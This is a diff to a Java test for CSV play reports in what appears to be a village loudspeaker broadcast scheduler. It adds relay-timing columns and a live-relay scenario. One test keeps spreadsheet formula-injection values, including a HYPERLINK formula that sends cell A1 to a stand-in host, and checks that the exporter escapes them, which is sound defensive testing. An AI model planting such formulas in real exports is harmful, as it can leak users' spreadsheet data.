@@ -8,7 +8,11 @@ import vn.loalang.controller.station.EventLog;
 import vn.loalang.controller.station.SqliteEventLog;
 import vn.loalang.controller.store.Store;
 import vn.loalang.protocol.SchemaVersion;
+import vn.loalang.protocol.schedule.EndRule;
+import vn.loalang.protocol.schedule.Fallback;
 import vn.loalang.protocol.schedule.Item;
+import vn.loalang.protocol.schedule.LiveChannelId;
+import vn.loalang.protocol.schedule.RelaySpec;
 import vn.loalang.protocol.schedule.Schedule;
 import vn.loalang.protocol.schedule.Session;
 import vn.loalang.protocol.station.EventType;
@@ -103,9 +107,10 @@ class PlayReportsTest {
 
         assertEquals(2, rows.size());
         assertEquals("""
-                date,session,name,village,stations,stations_complete,planned_items,played_items,reached
-                2026-11-24,2026-11-24.morning,Buổi sáng,thon-tay,1,1,1,1,yes
-                2026-11-25,2026-11-24.morning-next,Buổi sáng,thon-tay,1,0,1,0,no
+                date,session,name,village,stations,stations_complete,planned_items,played_items,reached,\
+                relay_seconds_planned,relay_seconds_played,late_plays
+                2026-11-24,2026-11-24.morning,Buổi sáng,thon-tay,1,1,1,1,yes,0,0,0
+                2026-11-25,2026-11-24.morning-next,Buổi sáng,thon-tay,1,0,1,0,no,0,0,0
                 """, csv);
         assertTrue(PlayReports.quote("Sáng, chiều").startsWith("\""));
     }
@@ -118,11 +123,51 @@ class PlayReportsTest {
 
         String csv = PlayReports.csv(rows);
 
-        assertEquals("date,session,name,village,stations,stations_complete,planned_items,played_items,reached\n"
-                + "2026-11-24,'-2+3,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Bấm\"\")\",'@SUM(A1:A9),1,1,1,1,yes\n"
-                + "2026-11-24,'+1,'\t=1+1,\"'\r=2\",1,0,1,0,no\n", csv);
+        assertEquals("date,session,name,village,stations,stations_complete,planned_items,played_items,reached,"
+                + "relay_seconds_planned,relay_seconds_played,late_plays\n"
+                + "2026-11-24,'-2+3,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Bấm\"\")\",'@SUM(A1:A9),1,1,1,1,yes,0,0,0\n"
+                + "2026-11-24,'+1,'\t=1+1,\"'\r=2\",1,0,1,0,no,0,0,0\n", csv);
         assertEquals("Thôn - Đông", Csv.text("Thôn - Đông"), "a dash inside the text is left alone");
         assertEquals("", Csv.text(""));
+    }
+
+    @Test
+    void aRelayCountsAsAnItemWithTheSecondsHeardAndLatePlaysAreMarked() {
+        // 05:30 gia-lua, then VOV1 05:35-06:05 (30 min); thon-dong-2 hears 20 min of it, then a drop it never
+        // recovers from; thon-dong-1 hears 25 min, with a drop and a resume; thon-tay-1 plays a recording late.
+        RelaySpec vov1 = new RelaySpec("vov1", "VOV1", URI.create("http://127.0.0.1/live/relay-vov1.mp3"),
+                LiveChannelId.relay("vov1"), RelaySpec.CODEC_MP3, MORNING.plusSeconds(300), MORNING.plusSeconds(2100),
+                EndRule.FIXED, 10, Fallback.REST_OF_SESSION, null, RelaySpec.RELAY_JITTER_MILLIS);
+        Item relay = Item.live("relay-vov1", "VOV1", vov1, 0);
+        Item file = session("x", MORNING, "gia-lua").items().get(0);
+        Session morning = new Session("2026-11-24.morning", "Buổi sáng", MORNING, MORNING.plusSeconds(3600),
+                List.of(file, relay));
+        plan("thon-dong-1", "thon-dong", morning);
+        plan("thon-dong-2", "thon-dong", morning);
+        plan("thon-tay-1", "thon-tay", session("morning", MORNING, "gia-lua", "rec-vov1-20261123-0535"));
+        played("thon-dong-1", "2026-11-24.morning", "gia-lua");
+        event("thon-dong-1", StationEvent.of(EventType.ITEM_DROPPED).content("relay-vov1").played(600_000));
+        event("thon-dong-1", StationEvent.of(EventType.ITEM_RESUMED).content("relay-vov1").played(600_000));
+        event("thon-dong-1", StationEvent.of(EventType.ITEM_FINISHED).content("relay-vov1").played(1_500_000));
+        played("thon-dong-2", "2026-11-24.morning", "gia-lua");
+        event("thon-dong-2", StationEvent.of(EventType.ITEM_DROPPED).content("relay-vov1").played(1_200_000));
+        played("thon-tay-1", "2026-11-24.morning", "gia-lua");
+        event("thon-tay-1", StationEvent.of(EventType.ITEM_FINISHED).content("rec-vov1-20261123-0535").markedLate());
+
+        List<SessionReport> rows = new PlayReports(store, ZONE).day(NOV_24, NOON);
+
+        assertEquals(List.of(
+                new SessionReport(NOV_24, "2026-11-24.morning", "Buổi sáng", "thon-dong", 2, 1, 4, 3, true,
+                        3600, 1500 + 1200, 0),
+                new SessionReport(NOV_24, "2026-11-24.morning", "Buổi sáng", "thon-tay", 1, 1, 2, 2, true, 0, 0, 1)),
+                rows);
+        assertTrue(PlayReports.csv(rows).contains(",thon-dong,2,1,4,3,yes,3600,2700,0\n"), PlayReports.csv(rows));
+    }
+
+    private void event(String station, StationEvent.Draft draft) {
+        long n = seq.merge(station, 1L, Long::sum);
+        StationEvent e = draft.session("2026-11-24.morning").numbered(station, "sd-1", n, MORNING.plusSeconds(n));
+        log.record(e, new EventLog.Position(station, "sd-1", n, List.of()));
     }
 
     private Session session(String id, Instant start, String... items) {
